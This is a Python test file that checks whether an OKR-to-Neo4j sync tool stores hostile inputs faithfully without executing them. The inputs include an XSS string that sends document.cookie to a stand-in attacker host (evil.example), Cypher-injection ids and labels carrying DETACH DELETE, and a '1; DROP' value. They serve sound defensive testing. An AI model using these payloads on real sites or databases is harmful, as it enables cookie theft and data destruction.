"""Nasty but spec-valid payloads: mirrored faithfully or rejected clearly, never run as Cypher."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import neo4j
from structlog.testing import capture_logs

from okrsync.graph import Graph
from okrsync.simulator import Org, SimulatorServer
from tests.helpers import assert_mirrors, sync_cycle

LONG = "Ω" + "long name " * 10_240  # ~100 KB
UNICODE = "שלום עולם 👋🏽 \u202eRTL\u202c tab\there bell\x07 zero\u200bwidth"
SCRIPT = (
    '<p>Hi</p><script>fetch("https://evil.example/"+document.cookie)</script>'
    "<img src=x onerror=alert(1)>"
)
CYPHER_ID = "x'}) DETACH DELETE n //"
CYPHER_LABEL = "`) MATCH (n) DETACH DELETE n; //"


def objective(oid: str, **extra: Any) -> dict[str, Any]:
    return {
        "id": oid,
        "key": f"K-{len(oid)}",
        "name": oid,
        "parentObjectiveId": None,
        "ownerAccountId": "u1",
        "collaboratorAccountIds": [],
        "labelIds": [],
        "teamIds": [],
        "periodAliasId": None,
        "startDate": "2026-01-01T00:00:00+0000",
        "deadline": "2026-03-31T00:00:00+0000",
        "latestUpdate": None,
        **extra,
    }


def nasty_org() -> Org:
    return Org.from_export(
        {
            "labels": [{"id": CYPHER_LABEL, "name": "MATCH (n) RETURN n"}],
            "okrs": [
                objective("empty-name", name=""),
                objective("long-name", name=LONG),
                objective("unicode", name=UNICODE, description=SCRIPT),
                objective(CYPHER_ID, labelIds=[CYPHER_LABEL]),
                objective("self-parent", parentObjectiveId="self-parent"),
                objective("cycle-a", parentObjectiveId="cycle-b"),
                objective("cycle-b", parentObjectiveId="cycle-a"),
            ],
            "krs": [
                {
                    "id": "kr-'\"\\",
                    "name": "quotes ' \" \\ and {braces}",
                    "parentObjectiveId": CYPHER_ID,
                    "issueIds": ["1; DROP"],
                    "labelIds": [],
                    "teamIds": [],
                    "collaboratorAccountIds": [],
                    "ownerAccountId": None,
                    "periodAliasId": None,
                    "latestUpdate": None,
                    "unit": None,
                    "currentProgressDefinition": None,
                }
            ],
        }
    )


def test_nasty_payloads_are_mirrored_faithfully(
    graph: Graph, driver: neo4j.Driver, tmp_path: Path
) -> None:
    """Empty, 100 KB, RTL/emoji/control text, scripts, Cypher-looking ids, self-parent, cycles."""
    with SimulatorServer(nasty_org()) as server, sync_cycle(server.url, graph, tmp_path) as syncer:
        with capture_logs() as logs:
            syncer.run()
        assert_mirrors(graph, server.url)
        assert syncer.run().plan.empty  # and stable: the second cycle changes nothing
    props = {
        r["id"]: r["p"] for r in graph.read("MATCH (o:Objective) RETURN o.id AS id, o {.*} AS p")
    }
    assert len(props) == 7
    assert props["empty-name"]["name"] == ""
    assert props["long-name"]["name"] == LONG
    assert props["unicode"]["name"] == UNICODE
    assert props["unicode"]["description"] == SCRIPT
    assert props["unicode"]["descriptionText"] == "Hi"
    assert props[CYPHER_ID]["name"] == CYPHER_ID
    labelled = graph.read("MATCH (o:Objective)-[:HAS_LABEL]->(l:Label) RETURN o.id AS o, l.id AS l")
    assert labelled == [{"o": CYPHER_ID, "l": CYPHER_LABEL}]
    kr = graph.read(
        "MATCH (o)-[:HAS_KR]->(k:KeyResult)-[:TRACKS]->(i:Issue) "
        "RETURN o.id AS o, k.id AS k, k.name AS name, i.id AS i"
    )
    assert kr == [
        {"o": CYPHER_ID, "k": "kr-'\"\\", "name": "quotes ' \" \\ and {braces}", "i": "1; DROP"}
    ]
    parents = graph.read("MATCH (a)-[:PARENT_OF]->(b) RETURN a.id AS a, b.id AS b ORDER BY a")
    assert parents == [{"a": "cycle-a", "b": "cycle-b"}, {"a": "cycle-b", "b": "cycle-a"}]
    dangling = [e for e in logs if e["event"] == "graph.dangling_reference"]
    assert [(e["entity"], e["missing"]) for e in dangling] == [("self-parent", "self-parent")]
